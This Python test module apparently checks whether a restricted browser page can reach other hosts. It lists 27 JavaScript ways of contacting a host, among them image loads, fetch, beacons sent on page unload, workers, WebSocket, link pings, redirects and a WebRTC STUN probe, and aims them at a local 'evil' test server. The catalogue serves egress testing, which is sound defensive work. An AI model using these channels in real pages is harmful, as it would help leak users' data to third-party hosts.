"""Every way by which a page may reach another host that we know of, each with a path of its own, and a page for all."""

from __future__ import annotations

import socket
import threading
from dataclasses import dataclass, field
from typing import Final

from tests.web_server import Answer, Seen, WebServer, respond

__all__ = ["SAME_HOST", "VECTORS", "Neighbourhood"]

VECTORS: Final[dict[str, str]] = {
    "img": "new Image().src = E",
    "fetch-get": "fetch(E, {mode: 'no-cors'}).catch(() => 0)",
    "fetch-post": "fetch(E, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)",
    "xhr-post": "{const x = new XMLHttpRequest(); x.open('POST', E); x.onerror = () => 0; x.send('x')}",
    "form-post": "{add('iframe', {name: E}); add('form', {action: E, method: 'post', target: E}).submit()}",
    "iframe": "add('iframe', {src: E})",
    "script": "add('script', {src: E})",
    "stylesheet": "add('link', {rel: 'stylesheet', href: E})",
    "css-image": "add('p', {}).style.background = `url(${E})`",
    "font": "new FontFace('f', `url(${E})`).load().catch(() => 0)",
    "video": "add('video', {src: E, preload: 'auto'})",
    "object": "add('object', {data: E})",
    "prefetch": "add('link', {rel: 'prefetch', href: E})",
    "preconnect": "add('link', {rel: 'preconnect', href: new URL(E).origin})",
    "fetch-redirect": "fetch('/redirect?to=' + encodeURIComponent(E), {mode: 'no-cors'}).catch(() => 0)",
    "fetch-307": "fetch('/redirect307?to=' + encodeURIComponent(E), {method: 'POST', mode: 'no-cors', body: 'x'})"
    ".catch(() => 0)",
    "frame-redirect": "add('iframe', {src: '/redirect?to=' + encodeURIComponent(E)})",
    "beacon": "navigator.sendBeacon(E, 'x')",
    "beacon-unload": "addEventListener('pagehide', () => navigator.sendBeacon(E, 'x'))",
    "keepalive-unload": "addEventListener('pagehide', () => fetch(E, {method: 'POST', mode: 'no-cors', body: 'x',"
    " keepalive: true}))",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${E}', {mode: 'no-cors'}).catch(() => 0)`])))",
    "shared-worker": "window.SharedWorker && new SharedWorker('/worker.js?to=' + encodeURIComponent(E))",
    "service-worker": "navigator.serviceWorker.register('/worker.js?to=' + encodeURIComponent(E)).catch(() => 0)",
    "websocket": "new WebSocket(E.replace('http', 'ws'))",
    "event-source": "new EventSource(E)",
    "popup": "window.open(E)",
    "ping": "{const a = add('a', {href: '#x', ping: E}); a.click()}",
}
"""By name: JavaScript in which ``E`` is the address to reach."""

SAME_HOST: Final = (
    "fetch-post",
    "xhr-post",
    "form-post",
    "beacon",
    "beacon-unload",
    "keepalive-unload",
    "shared-worker",
)
"""Those that also try to write to the page's own host."""

_PAGE: Final = """<!doctype html><title>vectors</title><link rel=icon href="data:,"><script>
const add = (tag, facts) => document.body.appendChild(Object.assign(document.createElement(tag), facts));
document.addEventListener('DOMContentLoaded', () => {
  const attempt = (E, run) => { try { run(E) } catch (error) {} };
  %s
  try {
    const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%d'}]});
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  } catch (error) {}
});
</script><body>"""
_WORKER: Final = b"""
const to = new URL(self.location).searchParams.get('to');
fetch(to, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0);
"""


@dataclass
class Neighbourhood:
    """The target's own server, a server that nobody may reach, and a STUN server that counts what comes."""

    home: WebServer = field(default_factory=WebServer)
    evil: WebServer = field(default_factory=WebServer)
    packets: int = 0

    def __post_init__(self) -> None:
        """Script both."""
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        threading.Thread(target=self._count, daemon=True).start()
        page = _PAGE % ("\n  ".join(self._calls()), self._udp.getsockname()[1])
        self.home.script("/", respond(body=page, content_type="text/html"))
        self.home.script("/away", respond(body="<title>away</title>", content_type="text/html"))
        self.home.script("/worker.js", respond(body=_WORKER, content_type="text/javascript"))
        self.home.script("/redirect", lambda seen: _redirect(302, seen))
        self.home.script("/redirect307", lambda seen: _redirect(307, seen))

    def close(self) -> None:
        """End all three."""
        self.home.close()
        self.evil.close()
        self._udp.close()

    def forget(self) -> None:
        """Begin anew."""
        self.home.seen.clear()
        self.evil.seen.clear()
        self.packets, self.evil.connections = 0, 0

    def reached(self) -> set[str]:
        """The vectors by which the forbidden server was reached."""
        return {path.strip("/").partition("?")[0] for path in self.evil.paths()}

    def written(self) -> list[str]:
        """What was asked of the target's own server by a method that writes."""
        return [f"{seen.method} {seen.path}" for seen in self.home.seen if seen.method not in {"GET", "HEAD"}]

    def _calls(self) -> list[str]:
        away = [f"attempt('{self.evil.url}/{name}', (E) => {{ {code} }});" for name, code in VECTORS.items()]
        return away + [f"attempt('{self.home.url}/{name}', (E) => {{ {VECTORS[name]} }});" for name in SAME_HOST]

    def _count(self) -> None:
        while True:
            try:
                self._udp.recv(2048)
            except OSError:
                return
            self.packets += 1


def _redirect(status: int, seen: Seen) -> Answer:
    from urllib.parse import unquote

    return respond(status, location=unquote(seen.path.partition("to=")[2]))
